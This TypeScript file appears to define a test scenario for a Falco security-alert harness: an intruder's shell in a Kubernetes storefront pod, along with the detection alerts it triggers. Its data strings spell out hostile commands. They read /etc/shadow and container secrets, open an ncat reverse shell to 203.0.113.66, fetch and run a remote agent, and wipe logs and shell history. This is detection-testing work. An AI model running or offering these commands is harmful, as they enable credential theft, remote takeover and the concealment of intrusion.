/** The bundled scenario of a shell in a container. @module */
import type { Scenario } from "../scenario.ts";
import { call, child, execve, type Fields, first, openat, tcp } from "./_fields.ts";
import { deepFreeze } from "./_freeze.ts";
import { rules } from "./_rules.ts";

const shop: Fields = {
  "container.id": "3f1c9a7be240",
  "container.image.repository": "registry.example.com/shop/storefront",
  "container.image.tag": "2.14.0",
  "container.name": "storefront",
  "k8s.ns.name": "shop",
  "k8s.pod.name": "storefront-7d9c6b5f4-x2k8p",
  "proc.tty": 34816,
  "user.loginuid": -1,
  "user.name": "root",
  "user.uid": 0,
};
const runc = { name: "runc", pid: 41862 };
const writable = "EXE_WRITABLE|EXE_LOWER_LAYER";
const dropped = "EXE_WRITABLE|EXE_UPPER_LAYER";
const truncate = "O_TRUNC|O_CREAT|O_WRONLY|FD_UPPER_LAYER";
const apiServer = "198.51.100.1:443";

// The intruder's shell, and what was started from it.
const bash = first(shop, runc, 41877, "/usr/bin/bash", "bash");
const shadow = child(bash, 41903, "/usr/bin/cat", "cat /etc/shadow");
const sudoers = child(bash, 41911, "/usr/bin/head", "head -n 20 /etc/sudoers");
const environ = child(bash, 41924, "/usr/bin/cat", "cat /proc/1/environ");
const findKeys = child(bash, 41950, "/usr/bin/find", "find / -xdev -name id_rsa*");
const grepKeys = child(bash, 41958, "/usr/bin/grep", "grep -rIl BEGIN RSA PRIVATE /srv/shop");
const curlApi = child(
  bash,
  41990,
  "/usr/bin/curl",
  "curl -sk https://kubernetes.default.svc/api/v1/namespaces/shop/secrets",
);
const aptUpdate = child(bash, 42011, "/usr/bin/apt-get", "apt-get update");
const aptInstall = child(bash, 42040, "/usr/bin/apt-get", "apt-get install -y ncat");
const ncat = child(bash, 42288, "/usr/bin/ncat", "ncat -e /bin/bash 203.0.113.66 4444");

// What came over the connection: no terminal there.
const remote = child(ncat, 42289, "/usr/bin/bash", "bash", { "proc.tty": 0 });
const curl = child(
  remote,
  42304,
  "/usr/bin/curl",
  "curl -fsS --output /tmp/.cache/agent http://203.0.113.66:8080/agent",
);
const agent = child(remote, 42319, "/tmp/.cache/agent", "agent --quiet --interval 5");
const rm = child(remote, 42377, "/usr/bin/rm", "rm -f /root/.bash_history");

// The responders: a look at the processes, then a copy of the evidence.
const responder = first(
  { ...shop, "proc.tty": 34817 },
  { name: "runc", pid: 43120 },
  43133,
  "/usr/bin/dash",
  "sh -c ps -ef; exec sh",
);
const tar = first(
  { ...shop, "proc.tty": 0 },
  { name: "runc", pid: 43201 },
  43214,
  "/usr/bin/tar",
  "tar cf - /tmp/.cache",
);

/**
 * A shell in a web shop's pod, and what its owner does in it: look for secrets, fetch a tool, come
 * back over a connection of its own, wipe the traces. Eight minutes, on the default host.
 *
 * Frozen through and through: copy it to change it.
 *
 * @example
 * ```ts
 * import { scenarios } from "@falco-streams/core/harness";
 * import assert from "node:assert/strict";
 *
 * assert.equal(scenarios.shellInContainer.alerts[0]?.rule, "Terminal shell in container");
 * ```
 */
export const shellInContainer: Scenario = deepFreeze<Scenario>({
  version: 1,
  name: "shell in container",
  description:
    "Somebody with borrowed cluster credentials opens a shell in a storefront pod, looks " +
    "for secrets, installs a tool, returns through a reverse shell and wipes the traces.",
  falcoVersion: "0.43.1",
  alerts: [
    { ...rules.terminalShell, output_fields: execve(bash, writable) },
    { ...rules.readSensitiveFile, afterMs: 14_210, output_fields: openat(shadow, "/etc/shadow") },
    { ...rules.readSensitiveFile, afterMs: 6_035, output_fields: openat(sudoers, "/etc/sudoers") },
    {
      ...rules.readEnvironment,
      afterMs: 11_480,
      output_fields: openat(environ, "/proc/1/environ"),
    },
    { ...rules.searchPrivateKeys, afterMs: 17_902, output_fields: execve(findKeys, writable) },
    { ...rules.searchPrivateKeys, afterMs: 8_114, output_fields: execve(grepKeys, writable) },
    {
      ...rules.contactApiServer,
      afterMs: 19_377,
      output_fields: tcp(curlApi, "connect", "192.0.2.47:51022", apiServer),
    },
    { ...rules.packageManagement, afterMs: 12_650, output_fields: execve(aptUpdate, writable) },
    { ...rules.packageManagement, afterMs: 7_291, output_fields: execve(aptInstall, writable) },
    { ...rules.netcatRemoteCode, afterMs: 21_448, output_fields: execve(ncat, dropped) },
    {
      // Standard input, output and error: three calls, three alerts that look the same.
      ...rules.redirectToNetwork,
      afterMs: 187,
      repeat: 3,
      everyMs: 0,
      output_fields: tcp(ncat, "dup2", "192.0.2.47:40112", "203.0.113.66:4444"),
    },
    { ...rules.ingressCopy, afterMs: 34_820, output_fields: execve(curl, writable) },
    { ...rules.dropAndExecute, afterMs: 2_604, output_fields: execve(agent, dropped) },
    {
      ...rules.contactApiServer,
      afterMs: 911,
      repeat: 4,
      everyMs: 5_000,
      output_fields: tcp(agent, "connect", "192.0.2.47:51180", apiServer),
    },
    {
      ...rules.clearLogs,
      afterMs: 41_300,
      output_fields: openat(remote, "/var/log/dpkg.log", truncate),
    },
    {
      ...rules.clearLogs,
      afterMs: 2_960,
      output_fields: openat(remote, "/var/log/lastlog", truncate),
    },
    {
      ...rules.deleteShellHistory,
      afterMs: 5_118,
      output_fields: call(rm, "unlinkat", {
        "evt.arg.name": "/root/.bash_history",
        "fd.name": null,
      }),
    },
    { ...rules.terminalShell, afterMs: 214_000, output_fields: execve(responder, writable) },
    {
      ...rules.copyByControlPlane,
      afterMs: 58_730,
      output_fields: openat(tar, "/tmp/.cache/agent", "O_RDONLY|FD_UPPER_LAYER"),
    },
  ],
});
